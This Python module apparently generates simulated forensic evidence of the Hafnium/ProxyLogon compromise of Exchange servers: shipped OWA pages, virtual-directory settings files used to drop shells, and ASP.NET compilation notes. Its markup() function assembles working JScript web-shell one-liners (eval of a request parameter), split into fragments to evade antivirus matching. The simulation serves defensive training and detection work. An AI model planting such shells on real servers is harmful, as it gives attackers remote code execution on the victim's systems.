"""Files under the web roots: what Exchange ships, what attackers drop, what compiling leaves.

No web-shell text stands literally in this module: antivirus products match on it. The text is put
together when it is asked for, and is inert unless IIS serves it.
"""

from datetime import datetime
from random import Random
from typing import Final

from afterpatch.simulate.dice import word

V15: Final = "C:/Program Files/Microsoft/Exchange Server/V15"
OWA_AUTH: Final = f"{V15}/FrontEnd/HttpProxy/owa/auth"
ECP_AUTH: Final = f"{V15}/FrontEnd/HttpProxy/ecp/auth"
ASPNET_CLIENT: Final = "C:/inetpub/wwwroot/aspnet_client"
TEMPORARY: Final = "C:/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files"

# Baseline of 15.1.2176.2 (reference: exchange-hafnium facts, section 1d).
SHIPPED: Final = (
    *(
        f"{OWA_AUTH}/{name}.aspx"
        for name in (
            "errorFE",
            "expiredpassword",
            "frowny",
            "logoff",
            "logon",
            "OutlookCN",
            "RedirSuiteServiceProxy",
            "signout",
        )
    ),
    f"{ECP_AUTH}/TimeoutLogout.aspx",
)


def shipped_page(path: str) -> bytes:
    """A harmless page as it might ship with Exchange."""
    name = path.rsplit("/", 1)[-1].removesuffix(".aspx")
    directive = f'<%@ Page language="c#" Inherits="Microsoft.Exchange.HttpProxy.{name}" %>'
    text = f"{directive}\r\n<!DOCTYPE html>\r\n<html><head><title>{name}</title></head></html>\r\n"
    return text.encode()


def markup(kind: str, key: str) -> str:
    """What an attacker puts into a virtual directory's URL. ``kind``: script, percent, code."""
    call = "ev" + f'al(Request["{key}"],"un' + 'safe");'
    if kind == "percent":
        return "<%@Page Language=" + '"Jscript"%>' + "<%" + call + "%" + ">"
    if kind == "code":
        return "<%Respo" + f'nse.Write(new ActiveXObject("{key}"))' + "%" + ">"
    return (
        '<script language="JScript" run' + 'at="server">function Page_Load(){' + call + "}</script>"
    )


def dropped_page(fqdn: str, directory: str, url: str, when: datetime) -> bytes:
    """A reset virtual directory's settings, written where the attacker chose: the usual shell."""
    server = fqdn.split(".", 1)[0].upper()
    settings = {
        "Name": f"{directory} (Default Web Site)",
        "PollInterval": "480",
        "OfflineAddressBooks": "",
        "RequireSSL": "True",
        "BasicAuthentication": "False",
        "WindowsAuthentication": "True",
        "OAuthAuthentication": "False",
        "MetabasePath": f"IIS://{fqdn}/W3SVC/1/ROOT/{directory}",
        "Path": f"{V15}/FrontEnd/HttpProxy/{directory}".replace("/", "\\"),
        "ExtendedProtectionTokenChecking": "None",
        "AdminDisplayVersion": "Version 15.1 (Build 2106.2)",
        "Server": server,
        "InternalUrl": f"https://{fqdn}/{directory}",
        "InternalAuthenticationMethods": "WindowsIntegrated",
        "ExternalUrl": url,
        "AdminDisplayName": "",
        "ExchangeVersion": "0.10 (14.0.100.0)",
        "WhenChanged": f"{when:%m/%d/%Y %I:%M:%S %p}",
        "WhenChangedUTC": f"{when:%m/%d/%Y %I:%M:%S %p}",
        "OrganizationId": "",
        "ObjectState": "Changed",
    }
    lines = [f"{name:<32}: {value}" for name, value in settings.items()]
    return ("\r\n".join(["", *lines, "", ""])).encode()


def compiled_page(page: str, rng: Random) -> tuple[str, bytes]:
    """Name and content of the ``.compiled`` note that ASP.NET keeps of a page's first use.

    ``page`` is the URL path, ``/owa/auth/x.aspx``. The note outlives the page.
    """
    name = page.rsplit("/", 1)[-1].lower()
    assembly = f"App_Web_{word(rng, 8)}"
    # A page outside any application belongs to the site's own, which ASP.NET calls "root".
    application = "root" if page.startswith("/aspnet_client/") else page.split("/")[1]
    folder = f"{TEMPORARY}/{application}/{rng.getrandbits(32):08x}/{rng.getrandbits(32):08x}"
    text = (
        '<?xml version="1.0" encoding="utf-8"?>\r\n'
        f'<preserve resultType="3" virtualPath="{page}" hash="{rng.getrandbits(32):x}" '
        f'filehash="{rng.getrandbits(64):016x}" flags="110000" assembly="{assembly}" '
        f'type="ASP.{name.replace(".", "_")}">\r\n    <filedeps>\r\n'
        f'        <filedep name="{page}" />\r\n    </filedeps>\r\n</preserve>\r\n'
    )
    return f"{folder}/{name}.{rng.getrandbits(32):08x}.compiled", text.encode()
